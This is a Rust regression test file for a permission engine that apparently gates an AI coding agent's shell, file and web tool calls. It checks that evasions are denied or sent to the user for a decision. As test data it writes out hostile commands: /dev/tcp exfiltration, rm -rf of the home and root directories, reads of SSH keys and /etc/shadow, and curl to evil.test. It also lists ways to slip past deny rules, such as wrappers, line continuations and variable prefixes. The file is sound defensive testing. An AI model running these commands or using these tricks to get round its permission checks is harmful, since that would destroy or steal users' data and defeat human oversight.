//! Regressions of the public changelog, named after where they were fixed.

use serde_json::json;
use sluice_permission::decide::after_hook;
use sluice_permission::{Verdict, hidden};
use std::path::Path;

use crate::world::world;

#[test]
fn v2_1_6_line_continuation() {
    let w = world().allow("Bash(echo:*)").deny("Bash(rm:*)");
    w.denies("echo a \\\n; rm x");
    w.denies("echo a;\\\nrm x");
    w.denies("r\\\nm x");
    w.stops("echo a # \\\nrm x");
}

#[test]
fn v2_1_7_a_wildcard_does_not_span_commands() {
    let w = world().allow("Bash(npm run *)").allow("Bash(git * main)");
    w.asks("npm run x && curl y");
    w.asks("npm run x; curl y");
    w.asks("git log; curl main");
    w.allows("npm run x");
}

#[test]
fn v1_0_120_a_prefix_ends_at_a_word() {
    world().allow("Bash(git status:*)").asks("git statusx");
    world().allow("Bash(npm run test:*)").asks("npm run test2");
}

#[test]
fn v2_1_98_backslash_before_a_flag() {
    for command in [
        "sort \\-o out a",
        "git log \\--output=x",
        "rg \\--pre=id x",
        "find . \\-delete",
        "sed \\-i s/a/b/ x",
    ] {
        world().asks(command);
    }
}

#[test]
fn v2_1_98_a_compound_does_not_escape_an_ask_rule() {
    for mode in ["auto", "bypassPermissions", "acceptEdits"] {
        let w = world().allow("Bash").ask("Bash(git push:*)").mode(mode);
        w.asks("ls && git push");
        w.asks("cd src && git push | cat");
        w.asks("(git push)");
    }
}

#[test]
fn v2_1_98_a_deny_is_not_downgraded_by_cd_and_pipe() {
    let w = world().deny("Bash(rm:*)");
    w.denies("cd /etc && rm x | cat");
    w.denies("cd src | rm x");
    w.denies("cat a | (cd / && rm x)");
}

#[test]
fn v2_1_98_network_by_redirection() {
    let w = world().allow("Bash(echo:*)").allow("Bash(cat:*)").mode("acceptEdits");
    for command in [
        "echo x > /dev/tcp/1.2.3.4/80",
        "cat < /dev/udp/h/53",
        "cat <> /dev/tcp/h/1",
        "exec 3<>/dev/tcp/h/1",
        "echo x >& /dev/tcp/h/1",
    ] {
        w.asks(command);
    }
}

#[test]
fn v2_1_98_spaces_and_tabs_in_a_match() {
    world().deny("Bash(rm -rf *)").denies("rm   -rf\t x");
    world().deny("Bash(rm  -rf *)").denies("rm -rf x");
    world().allow("Bash(npm  run *)").allows("npm \t run x");
}

#[test]
fn v2_0_10_2_1_97_variables_before_a_command() {
    let w = world().allow("Bash(npm test:*)").deny("Bash(aaa:*)");
    w.denies("FOO=1 aaa");
    w.denies("A=1 B=2 aaa x");
    w.denies("A=$(x) aaa");
    w.asks("NODE_OPTIONS=--require=./x npm test");
    w.allows("NODE_ENV=test npm test");
}

#[test]
fn v2_1_145_bare_assignments() {
    for command in ["PATH=.", "IFS=x", "FOO=1", "PS4='x'; set -x", "a[0]=1", "FOO+=1"] {
        world().asks(command);
        world().allow("Bash(ls:*)").asks(&format!("{command}; ls"));
    }
}

#[test]
fn v2_1_113_deny_through_wrappers() {
    let w = world().allow("Bash").deny("Bash(aaa:*)");
    for wrapper in [
        "env",
        "sudo",
        "watch",
        "ionice",
        "setsid",
        "nohup",
        "nice",
        "timeout 5",
        "stdbuf -oL",
        "command",
        "exec",
        "xargs",
        "sudo -n -u root",
        "env -u A B=1",
        "doas",
        "time",
        "chroot /",
        "strace -f",
    ] {
        w.denies(&format!("{wrapper} aaa b"));
    }
}

#[test]
fn v2_1_113_116_208_removing_what_must_not_go() {
    for mode in ["default", "acceptEdits", "bypassPermissions", "auto"] {
        let w = world().allow("Bash(rm:*)").mode(mode);
        for command in [
            "rm -rf /private/*",
            "rm -rf /private/var",
            "rm -rf ~",
            "rm -rf $HOME",
            "echo $(rm -rf ~)",
            "rm -rf /",
            "rm -fr -- /",
            "rm -r -f /.",
        ] {
            if command == "rm -rf /private/var" && mode == "bypassPermissions" {
                continue;
            }
            w.asks(command);
        }
    }
}

#[test]
fn v2_1_149_the_directory_is_not_guessed() {
    for command in [
        "cd $PWD/x && cat a",
        "cd $OLDPWD && cat a",
        "cd - && cat a",
        "cd ~+ && cat a",
        "cd ~- && cat a",
        "cat ~1/x",
        "OLDPWD=/etc; cd - && cat passwd",
        "popd; cat a",
        "dirs; cat a",
        "cd -P x && cat a",
        "cd a b && cat c",
        "CDPATH=/etc cd x",
    ] {
        world().asks(command);
    }
}

#[test]
fn v2_1_214_too_long_is_asked() {
    let long = |n: usize| format!("echo {}", "x".repeat(n));
    world().allows(&long(9_000));
    world().asks(&long(10_001));
    world().mode("acceptEdits").asks(&long(64_000));
}

#[test]
fn v2_1_214_descriptors() {
    for command in [
        "ls 2>&1",
        "ls 1>&2",
        "ls 2>/dev/null",
        "ls >/dev/null 2>&1",
        "ls &>/dev/null",
        "ls 2>&-",
        "ls <&-",
        "echo x 1>&2 2>/dev/null",
    ] {
        world().allows(command);
    }
    for command in [
        "ls 3>out",
        "ls >&out",
        "ls 2>&1out",
        "ls >&1x",
        "ls &>>out",
        "ls {fd}>out",
        "ls >&$x",
        "ls 9<>out",
    ] {
        world().asks(command);
    }
}

#[test]
fn v2_1_216_redirections_within_lists() {
    let w = world().allow("Bash(ls:*)");
    for command in [
        "ls && ls > out",
        "! ls > out",
        "ls || (ls > out)",
        "{ ls; } > out",
        "(ls) > out",
        "if ls; then ls; fi > out",
        "for i in 1; do ls; done >> out",
        "while ls > out; do break; done",
        "time ls > out",
        "[[ -f x ]] > out",
    ] {
        w.asks(command);
    }
    let deny = world().allow("Bash").deny("Edit(//w/out)");
    for command in [
        "! ls > out",
        "{ ls; } > out",
        "ls && (ls) > out",
        "if ls; then ls; fi > out",
    ] {
        deny.denies(command);
    }
}

#[test]
fn v2_1_232_a_file_on_standard_input() {
    world().asks("cat < /etc/passwd");
    world().allows("cat < a.txt");
    world().deny("Read(secret)").denies("wc -l < secret");
}

#[test]
fn v2_1_214_221_238_subscripts_and_expressions() {
    for command in [
        "[[ -v a[0] ]]",
        "[[ a[0] -eq 1 ]]",
        "[[ x -gt y ]]",
        "[[ $x == y ]]",
        "test -v x",
        "[ a[0] -eq 1 ]",
        "(( a[0] ))",
        "echo $(( a ))",
        "echo ${a[0]}",
        "echo ${a@P}",
        "ls *(e:'id':)",
        "=id",
    ] {
        world().asks(command);
    }
}

#[test]
fn v2_1_214_help_man_file_docker() {
    for command in [
        "man -P id ls",
        "man --pager=id ls",
        "man -H=id ls",
        "help -m x",
        "man ls",
        "file -m magic x",
        "file --magic-file x y",
        "file -f list",
        "file --files-from list",
        "docker -H tcp://x ps",
        "docker --host=x ps",
        "docker -c evil ps",
        "docker --context evil ps",
        "docker --config x ps",
    ] {
        world().asks(command);
    }
}

#[test]
fn v2_1_69_a_linked_parent_in_accept_edits() {
    let w = world().mode("acceptEdits").link("/w/sub", "/outside");
    assert_eq!(w.write("/w/sub/new.txt").behavior, Verdict::Ask);
    assert_eq!(
        w.write("/w/sub/../x").behavior,
        Verdict::Ask,
        "beyond the link, not beside it"
    );
}

#[test]
fn v2_1_89_allow_rules_look_at_the_target() {
    let w = world().allow("Read(./docs/**)").link("/w/docs/link", "/etc/shadow");
    assert_eq!(w.read("/w/docs/link").behavior, Verdict::Ask);
}

#[test]
fn v2_1_163_home_in_every_spelling() {
    let w = world().allow("Bash").deny("Read(~/.ssh/**)");
    w.denies("cat ~/.ssh/id_rsa");
    w.denies("cat /home/u/.ssh/id_rsa");
    w.denies("cd ~ && cat .ssh/id_rsa");
    w.denies("cd && cat .ssh/id_rsa");
    w.stops("cat $HOME/.ssh/id_rsa");
    w.stops("cat \"${HOME}/.ssh/id_rsa\"");
    w.stops("cat ~u/.ssh/id_rsa");
}

#[test]
fn v2_1_162_denied_files_are_hidden_from_searches() {
    let w = world().deny("Read(./secret/**)");
    assert!(hidden(&w.policy, Path::new("/w/secret/k"), &w.links));
    assert!(!hidden(&w.policy, Path::new("/w/src/k"), &w.links));
    assert_eq!(
        w.call("Grep", &json!({"pattern":"x","path":"/w/secret"})).behavior,
        Verdict::Deny
    );
    assert_eq!(
        w.call("Glob", &json!({"pattern":"*","path":"/w/secret"})).behavior,
        Verdict::Deny
    );
    assert_eq!(w.call("Glob", &json!({"pattern":"/etc/*"})).behavior, Verdict::Ask);
    assert_eq!(w.call("Glob", &json!({"pattern":"../../etc/*"})).behavior, Verdict::Ask);
}

#[test]
fn v2_1_172_162_hosts_bind_the_shell_too() {
    let w = world().allow("Bash").deny("WebFetch(domain:*.evil.test)");
    w.denies("curl https://a.evil.test/x");
    w.denies("curl a.evil.test/x");
    w.denies("wget -q https://u:p@a.evil.test:8443/x");
    w.denies("ls && curl --url=https://a.evil.test");
    w.allows("curl https://good.test/x");
}

#[test]
fn v2_1_136_212_plan_mode_beats_allow_rules() {
    let w = world()
        .mode("plan")
        .allow("Edit(./**)")
        .allow("Edit")
        .allow("Write")
        .allow("Bash(touch:*)")
        .allow("Bash");
    assert_eq!(w.write("/w/x").behavior, Verdict::Ask);
    for command in ["touch x", "echo x > y", "sed -i s/a/b/ x", "ls && rm x"] {
        w.asks(command);
    }
}

#[test]
fn v2_1_77_101_211_hooks_do_not_beat_rules() {
    let w = world().deny("Bash(zap:*)").ask("Bash(git push:*)");
    assert_eq!(after_hook(&w.bash("zap")), Verdict::Deny);
    assert_eq!(after_hook(&w.bash("git push")), Verdict::Ask);
    assert_eq!(after_hook(&w.bash("npm test")), Verdict::Allow);
    assert_eq!(after_hook(&w.call("AskUserQuestion", &json!({}))), Verdict::Ask);
}

#[test]
fn v2_1_74_a_managed_ask_beats_a_users_allow() {
    use sluice_permission::{Behavior, Rule, Source};
    let mut w = world().allow("Bash(git push:*)").allow("Bash");
    w.policy
        .rules
        .push(Rule::parse(Behavior::Ask, Source::Policy, "/", "Bash(git push:*)").unwrap());
    w.asks("git push");
    w.policy.rules.pop();
    w.allows("git push");
}

#[test]
fn v2_1_69_skills_do_not_answer_for_people() {
    let w = world().allow("AskUserQuestion").mode("bypassPermissions");
    assert!(w.call("AskUserQuestion", &json!({})).requires_user_interaction);
}

#[test]
fn v2_1_186_denied_agents() {
    let w = world().mode("bypassPermissions").deny("Agent(helper)");
    assert_eq!(
        w.call("Task", &json!({"subagent_type":"helper"})).behavior,
        Verdict::Deny
    );
}

#[test]
fn v2_1_221_a_new_mode_decides_anew() {
    assert_eq!(world().mode("acceptEdits").write("/w/x").behavior, Verdict::Allow);
    assert_eq!(world().mode("default").write("/w/x").behavior, Verdict::Ask);
}

#[test]
fn v2_1_224_a_closing_slash() {
    let w = world().deny("Read(./secret/)");
    assert_eq!(w.read("/w/secret/k").behavior, Verdict::Deny);
    w.denies("cat secret//k");
    w.denies("ls secret/");
    w.denies("ls ./secret/.");
}
